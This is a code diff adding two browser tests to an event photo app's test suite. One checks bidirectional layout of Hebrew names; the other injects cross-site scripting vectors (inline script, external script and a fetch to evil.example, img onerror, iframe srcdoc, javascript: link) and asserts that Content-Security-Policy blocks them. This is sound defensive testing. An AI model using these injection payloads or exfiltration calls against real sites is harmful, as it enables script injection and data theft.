@@ -80,6 +80,57 @@ class RulesTest {
         assertThat(open.comments().last()).containsText("This comment wasn’t accepted.");
     }
 
+    /// As if markup had got into a page after all.
+    @Test
+    void a_script_that_got_into_a_page_would_not_run_and_could_tell_nobody(
+            Cloud.Running kilat, Browsers browsers) {
+        Page page = GuestPage.open(browsers.page(Screen.PHONE), kilat, kilat.event()).page();
+        page.evaluate(
+                """
+                () => {
+                    const script = document.createElement('script');
+                    script.textContent = 'window.ran = 1';
+                    const foreign = document.createElement('script');
+                    foreign.src = 'https://evil.example/x.js';
+                    const markup = document.createElement('div');
+                    markup.innerHTML = '<img src="data:," onerror="window.ran = 2">'
+                        + '<iframe srcdoc="<script>parent.ran = 3</script>"></iframe>'
+                        + '<a id="link" href="javascript:window.ran = 4">x</a>'
+                        + '<img src="https://evil.example/x.png">';
+                    document.body.append(script, foreign, markup);
+                    document.getElementById('link').click();
+                    window.told = fetch('https://evil.example/').then(() => true, () => false);
+                }
+                """);
+        assertThat(page.evaluate("window.told")).isEqualTo(false);
+        page.waitForCondition(() -> browsers.complaints().size() >= 5);
+        assertThat(page.evaluate("window.ran")).isNull();
+        assertThat(browsers.complaints().toString())
+                .contains("script-src", "img-src", "connect-src")
+                .contains("inline");
+    }
+
+    /// A name of right-to-left letters stays a name, and what stands beside it stays beside it.
+    @Test
+    void a_name_that_is_read_from_the_right_moves_nothing_beside_it(
+            Cloud.Running kilat, Browsers browsers) {
+        String slug = kilat.event();
+        String id = kilat.admin().upload(slug, Photos.jpeg(400, 300)).path("photo_id").asText();
+        AdminPage admin = AdminPage.at(browsers.page(Screen.DESKTOP), kilat, slug);
+        GuestPage guest = GuestPage.open(browsers.page(Screen.PHONE), kilat, slug);
+        OpenPhoto open = OpenPhoto.open(guest, id);
+        open.openComments();
+        open.name().fill("\u05E9\u05E8\u05D4");
+        open.words().fill("123 \u05E9\u05DC\u05D5\u05DD");
+        open.send().click();
+        var toast = admin.page().locator(".toasts bdi");
+        assertThat(toast).hasCount(2);
+        double name = toast.first().boundingBox().x;
+        assertThat(toast.last().boundingBox().x).isGreaterThan(name);
+        var who = open.comments().last().locator(".who > *");
+        assertThat(who.last().boundingBox().x).isGreaterThan(who.first().boundingBox().x);
+    }
+
     @Test
     void pages_run_no_script_but_their_own_and_talk_to_nobody_else(
             Cloud.Running kilat, Browsers browsers, Wall wall) {
